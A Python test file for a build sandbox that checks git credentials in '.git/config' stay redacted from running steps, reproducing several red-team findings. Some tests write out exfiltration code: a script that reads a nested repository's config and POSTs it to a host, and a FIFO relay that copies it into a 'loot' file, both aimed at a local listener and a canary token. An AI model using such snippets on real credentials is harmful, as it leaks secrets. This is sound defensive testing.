"""A git config shown redacted stays redacted when the host rewrites it while a step runs.

git writes a config by a lock file renamed over it (`git config`, `git remote add`, `git push -u`).
The kernel then detaches every mount on the replaced file, in every mount namespace: a long step (a
dev server) that read `.git/config` redacted read it again after the host's `git remote add`, and
saw the token (red team 10, both backends). Now the directory holding each redacted config is
rebuilt in the sandbox (skeleton.py), and the host's rename reaches nothing the sandbox sees.
Each case: a real sandbox on both backends, whole project writable and `writable: [node_modules/]`,
the host's own git commands between the step's two reads, the token looked for in both; the
control: the host's config holds the token (and the new remote), and git still works in the
sandbox after the host's change.
"""
from __future__ import annotations

import subprocess
import time
from pathlib import Path

import pytest

from support.listener import CanaryListener

from .helpers import PY, Runs, project
from .test_guard_repos import GIT_ENV
from .test_hidden_repos import CONFIG  # default: the whole project writable; nm: node_modules/ only

TOKEN = "SBOX-CANARY-TOKEN-10"
READ = ("cat .git/config vendor/lib/.git/config .git/modules/sub/config .git/modules/added/config 2>&1; "
        "git rev-parse HEAD 2>&1")
STEP = ("{ " + READ + "; } > OUT/before.txt; : > OUT/ready; "
        "i=0; while [ ! -e host.changed ] && [ $i -lt 3000 ]; do sleep 0.02; i=$((i+1)); done; "
        "{ " + READ + "; } > OUT/after.txt")


def _git(repo: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=repo, env=GIT_ENV, capture_output=True, check=True)


def _repos(root: Path) -> None:
    lib = root / "vendor" / "lib"
    lib.mkdir(parents=True)
    for repo in (root, lib):
        _git(repo, "init", "-q")
        _git(repo, "config", "http.extraheader", f"AUTHORIZATION: token {TOKEN}")
        (repo / "f.txt").write_text("x")
        _git(repo, "add", "f.txt")
        _git(repo, "commit", "-q", "-m", "x")
    # a submodule's git directory, as `git submodule add` leaves it
    sub = root / ".git" / "modules" / "sub"
    subprocess.run(["git", "init", "-q", "--bare", str(sub)], env=GIT_ENV, capture_output=True, check=True)
    _git(sub, "config", "http.extraheader", f"AUTHORIZATION: token {TOKEN}")


@pytest.mark.parametrize("profile", ["default", "nm"])
def test_a_config_the_host_rewrites_while_a_step_runs_stays_redacted(runs: Runs, tmp_path: Path,
                                                                     profile: str) -> None:
    root = project(tmp_path, CONFIG)
    _repos(root)
    (root / "node_modules").mkdir()
    out = "node_modules" if profile == "nm" else "."
    proc = subprocess.Popen(runs.argv(["sh", "-c", STEP.replace("OUT", out)], "--profile", profile), cwd=root,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    runs.track(proc.pid)
    try:
        for _ in range(3000):
            if (root / out / "ready").exists() or proc.poll() is not None:
                break
            time.sleep(0.02)
        assert (root / out / "ready").exists(), proc.communicate()[1]
        # the host's everyday git commands, each a rename over the config
        _git(root, "remote", "add", "origin", "https://example.invalid/a.git")
        _git(root / "vendor" / "lib", "config", "user.name", "someone")
        _git(root / ".git" / "modules" / "sub", "config", "user.name", "someone")
        # a submodule added meanwhile (`git submodule add`, then a `git config` there; red team 11)
        added = root / ".git" / "modules" / "added"
        subprocess.run(["git", "init", "-q", "--bare", str(added)], env=GIT_ENV, capture_output=True, check=True)
        _git(added, "config", "http.extraheader", f"AUTHORIZATION: token {TOKEN}")
        (root / "host.changed").touch()
        _, stderr = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    # the host's own changes are not the step's: nothing of .git quarantined
    assert "quarantined" not in stderr, stderr
    assert proc.returncode == 0, stderr
    before = (root / out / "before.txt").read_text()
    after = (root / out / "after.txt").read_text()
    assert before.count("[core]") == 3, before  # the step read all three configs
    assert TOKEN not in before, before
    assert TOKEN not in after, f"the host's rewrite showed the token to the running step: {after}"
    # git still works in the sandbox after the host's change: HEAD read as the host has it
    rev = subprocess.run(["git", "rev-parse", "HEAD"], cwd=root, env=GIT_ENV, capture_output=True, text=True)
    head = rev.stdout.strip()
    assert len(head) == 40 and head in before and head in after, (rev, before, after)
    # the control: the host's configs hold the token, and the change
    assert TOKEN in (root / ".git" / "config").read_text()
    assert "example.invalid" in (root / ".git" / "config").read_text()
    assert "someone" in (root / "vendor" / "lib" / ".git" / "config").read_text()
    assert TOKEN in (root / ".git" / "modules" / "added" / "config").read_text()
    assert TOKEN in (root / "vendor" / "lib" / ".git" / "config").read_text()


SEND = """
import sys, urllib.request
data = open("vendor/lib/.git/config").read()
try:
    urllib.request.urlopen(urllib.request.Request(sys.argv[1], data=data.encode(), method="POST"), timeout=3)
except Exception as exc:
    print(type(exc).__name__)
"""


def test_a_step_that_writes_nothing_but_has_the_network_sees_nested_configs_redacted(
        runs: Runs, tmp_path: Path) -> None:
    """Red team 10: a step that wrote nothing of the project showed nested repositories' configs
    as they are, and pip's download phase (the network on, sdists built) sent `vendor/lib`'s token
    to the allowed registry. The step here posts the config to the one host it may reach, a
    listener of the test's: what arrives is the config without the token."""
    with CanaryListener() as registry:
        root = project(tmp_path, CONFIG + f"""\
  ronet:
    network: on
    network_allow: [registry.sbox.test:{registry.port}]
    writable: false
hosts:
  registry.sbox.test: [127.0.0.1]
""")
        _repos(root)
        result = subprocess.run(runs.argv([PY, "-c", SEND, f"http://registry.sbox.test:{registry.port}/up"],
                                          "--profile", "ronet"), cwd=root, capture_output=True, text=True,
                                timeout=120)
        assert registry.wait_for(1, b"[core]", timeout=30), (registry.received, result.stderr)
        assert TOKEN.encode() not in registry.received, registry.received
        # the control: what the step read is the host's config, which holds the token
        assert TOKEN in (root / "vendor" / "lib" / ".git" / "config").read_text()


def test_a_step_that_writes_nothing_and_has_no_network_sees_nested_configs_redacted(
        runs: Runs, tmp_path: Path) -> None:
    """Red team 12: such a step showed nested configs as they are, and handed `vendor/lib`'s token
    through a FIFO that a sandbox writing `node_modules/` made deep there (only the top two levels'
    sockets are masked) to that sandbox, which kept it in the project. Here the relay is real: the
    writing step reads the FIFO into `node_modules/loot` while the read-only step writes the
    config into it."""
    root = project(tmp_path, CONFIG + """\
  ro:
    network: off
    writable: false
""")
    _repos(root)
    (root / "node_modules" / ".c" / "d").mkdir(parents=True)
    relay = subprocess.Popen(runs.argv(["sh", "-c", "mkfifo node_modules/.c/d/f && cat node_modules/.c/d/f > "
                                        "node_modules/loot"], "--profile", "nm"), cwd=root,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    runs.track(relay.pid)
    try:
        for _ in range(3000):
            if (root / "node_modules" / ".c" / "d" / "f").exists() or relay.poll() is not None:
                break
            time.sleep(0.02)
        assert (root / "node_modules" / ".c" / "d" / "f").exists(), relay.communicate()[1]
        sent = subprocess.run(runs.argv(["sh", "-c", "cat vendor/lib/.git/config > node_modules/.c/d/f"],
                                        "--profile", "ro"), cwd=root, capture_output=True, text=True, timeout=120)
        _, err = relay.communicate(timeout=120)
    finally:
        if relay.poll() is None:
            relay.kill()
    assert sent.returncode == 0 and relay.returncode == 0, (sent.stderr, err)
    loot = (root / "node_modules" / "loot").read_text()
    assert "[core]" in loot, loot  # the relay works: the config went through
    assert TOKEN not in loot, "a read-only step handed the nested repository's token on"
    assert TOKEN in (root / "vendor" / "lib" / ".git" / "config").read_text()  # the control
